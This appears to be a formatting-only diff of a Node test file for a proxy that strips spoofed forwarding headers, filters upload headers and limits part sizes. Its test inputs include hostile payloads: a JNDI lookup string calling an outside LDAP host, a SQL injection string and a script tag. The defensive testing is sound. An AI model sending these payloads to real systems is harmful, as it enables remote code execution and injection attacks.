@@ -78,7 +78,12 @@ test('every answer of the edge itself carries the headers of protection, and non
 });
 
 test('staff’s address is handed on once, a reporter’s never, and nobody’s own word on it', async () => {
-  const lies = { 'x-forwarded-for': '198.51.100.7', 'x-real-ip': '198.51.100.7', forwarded: 'for=198.51.100.7', 'x-forwarded-host': 'evil.example' };
+  const lies = {
+    'x-forwarded-for': '198.51.100.7',
+    'x-real-ip': '198.51.100.7',
+    forwarded: 'for=198.51.100.7',
+    'x-forwarded-host': 'evil.example',
+  };
   for (const surface of ['admin', 'reporter']) {
     await ask(edge, { surface, from: '127.9.8.7', headers: lies });
     assert.doesNotMatch(last(surface).raw.join(' '), /198\.51|evil/);
@@ -107,9 +112,26 @@ test('a reporter’s address becomes one that is none: the same for the next req
 /** Begins to send a part of a file; the caller writes and ends it. */
 function part(surface, size, headers = {}) {
   const host = HOSTS[surface];
-  const sent = { host, 'user-agent': 'x', 'content-type': 'application/octet-stream', 'content-length': size, 'x-upload-secret': 'Ab-_9', 'x-voicase': '1', ...headers };
+  const sent = {
+    host,
+    'user-agent': 'x',
+    'content-type': 'application/octet-stream',
+    'content-length': size,
+    'x-upload-secret': 'Ab-_9',
+    'x-voicase': '1',
+    ...headers,
+  };
   const path = `/up/${randomUUID()}/104857600`;
-  const outgoing = request({ host: '127.0.0.1', port: edge.https, servername: host, ca: edge.authority.certificate, method: 'PUT', path, headers: sent, agent: false });
+  const outgoing = request({
+    host: '127.0.0.1',
+    port: edge.https,
+    servername: host,
+    ca: edge.authority.certificate,
+    method: 'PUT',
+    path,
+    headers: sent,
+    agent: false,
+  });
   const status = new Promise((done, fail) => {
     outgoing.on('response', (response) => done(response.resume().statusCode));
     outgoing.on('error', fail);
@@ -132,10 +154,17 @@ for (const surface of ['reporter', 'admin']) {
 }
 
 test('of a part’s headers only those that the server asks for arrive, and a larger part does not', async () => {
-  const { outgoing, status } = part('reporter', 3, { 'user-agent': '${jndi:ldap://203.0.113.9/a}', cookie: "' OR 1=1 --", 'x-upload-secret': '<script>' });
+  const { outgoing, status } = part('reporter', 3, {
+    'user-agent': '${jndi:ldap://203.0.113.9/a}',
+    cookie: "' OR 1=1 --",
+    'x-upload-secret': '<script>',
+  });
   outgoing.end('abc');
   assert.equal(await status, 200);
-  assert.deepEqual(Object.keys(last('reporter').headers).sort(), ['connection', 'content-length', 'content-type', 'host', 'x-forwarded-for'].filter((name) => name in last('reporter').headers));
+  assert.deepEqual(
+    Object.keys(last('reporter').headers).sort(),
+    ['connection', 'content-length', 'content-type', 'host', 'x-forwarded-for'].filter((name) => name in last('reporter').headers),
+  );
   const large = part('reporter', (8 << 20) + 1);
   large.outgoing.flushHeaders();
   assert.equal(await large.status, 413);
@@ -148,15 +177,33 @@ test('a long download arrives whole', async () => {
 });
 
 test('a WebSocket of staff stays open both ways; the reporters’ host has none', async () => {
-  const upgrade = (surface) => new Promise((done, fail) => {
-    const host = HOSTS[surface];
-    const headers = { host, 'user-agent': 'x', connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==', 'sec-websocket-protocol': 'graphql-transport-ws', origin: `https://${host}` };
-    const outgoing = request({ host: '127.0.0.1', port: edge.https, servername: host, ca: edge.authority.certificate, path: '/graphql/live', headers, agent: false });
-    outgoing.on('upgrade', (response, socket) => done({ status: response.statusCode, socket }));
-    outgoing.on('response', (response) => done({ status: response.resume().statusCode }));
-    outgoing.on('error', fail);
-    outgoing.end();
-  });
+  const upgrade = (surface) =>
+    new Promise((done, fail) => {
+      const host = HOSTS[surface];
+      const headers = {
+        host,
+        'user-agent': 'x',
+        connection: 'Upgrade',
+        upgrade: 'websocket',
+        'sec-websocket-version': '13',
+        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
+        'sec-websocket-protocol': 'graphql-transport-ws',
+        origin: `https://${host}`,
+      };
+      const outgoing = request({
+        host: '127.0.0.1',
+        port: edge.https,
+        servername: host,
+        ca: edge.authority.certificate,
+        path: '/graphql/live',
+        headers,
+        agent: false,
+      });
+      outgoing.on('upgrade', (response, socket) => done({ status: response.statusCode, socket }));
+      outgoing.on('response', (response) => done({ status: response.resume().statusCode }));
+      outgoing.on('error', fail);
+      outgoing.end();
+    });
   const { status, socket } = await upgrade('admin');
   assert.equal(status, 101);
   for (const words of ['first', "second ' OR 1=1 --"]) {
